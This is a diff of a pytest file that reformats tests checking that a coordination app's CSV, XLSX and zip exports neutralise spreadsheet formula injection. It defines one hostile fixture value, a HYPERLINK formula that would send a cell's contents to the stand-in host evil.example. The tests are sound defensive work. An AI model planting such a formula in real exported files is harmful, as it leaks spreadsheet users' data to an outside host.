@@ -15,8 +15,15 @@ from tests.catalog.test_spreadsheet import send
 from tests.factories import ProductFactory
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
-DOWNLOADS = ("pickup-list.csv", "pickup-list.xlsx", "matrix.csv", "matrix.xlsx",
-             "summary.csv", "summary.xlsx", "lists.zip")
+DOWNLOADS = (
+    "pickup-list.csv",
+    "pickup-list.xlsx",
+    "matrix.csv",
+    "matrix.xlsx",
+    "summary.csv",
+    "summary.xlsx",
+    "lists.zip",
+)
 
 
 @pytest.fixture
@@ -59,16 +66,17 @@ def test_no_exported_cell_can_run_as_a_formula(coordinator_client, hostile_cycle
 
 
 def test_every_file_of_the_zip_is_safe(coordinator_client, hostile_cycle):
-    response = coordinator_client.get(f"/coordination/cycles/{hostile_cycle['cycle'].id}/"
-                                      "lists.zip")
+    response = coordinator_client.get(f"/coordination/cycles/{hostile_cycle['cycle'].id}/lists.zip")
     with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
         for name in archive.namelist():
             if name.endswith(".xlsx"):
-                assert not [cell for cell in xlsx_cells(archive.read(name))
-                            if cell.data_type == "f"], name
+                assert not [
+                    cell for cell in xlsx_cells(archive.read(name)) if cell.data_type == "f"
+                ], name
             if name.endswith(".csv"):
-                assert not [cell for cell in csv_cells(archive.read(name))
-                            if cell.startswith(EVIL)], name
+                assert not [
+                    cell for cell in csv_cells(archive.read(name)) if cell.startswith(EVIL)
+                ], name
 
 
 def test_the_producers_list_is_safe_too(app, db, hostile_cycle):
@@ -79,8 +87,9 @@ def test_the_producers_list_is_safe_too(app, db, hostile_cycle):
     client = logged_in_client(app, hostile_cycle["farmer"])
     url = f"/producers/{farm.id}/manage/lists/{hostile_cycle['cycle'].id}"
     assert any(cell.startswith("'" + EVIL) for cell in csv_cells(client.get(url + ".csv").data))
-    assert not [cell for cell in xlsx_cells(client.get(url + ".xlsx").data)
-                if cell.data_type == "f"]
+    assert not [
+        cell for cell in xlsx_cells(client.get(url + ".xlsx").data) if cell.data_type == "f"
+    ]
 
 
 def test_ledger_csv_labels_are_neutralised(coordinator_client, hostile_cycle):
@@ -117,5 +126,7 @@ def test_csv_escaping_is_undone_exactly(text):
 @given(st.text(min_size=1))
 def test_an_escaped_cell_never_starts_a_formula(text):
     cell = csv_cell(text)
-    assert cell[0] not in FORMULA_TRIGGERS or cell.lstrip("+-").replace(",", "").replace(
-        ".", "").isdigit()
+    assert (
+        cell[0] not in FORMULA_TRIGGERS
+        or cell.lstrip("+-").replace(",", "").replace(".", "").isdigit()
+    )
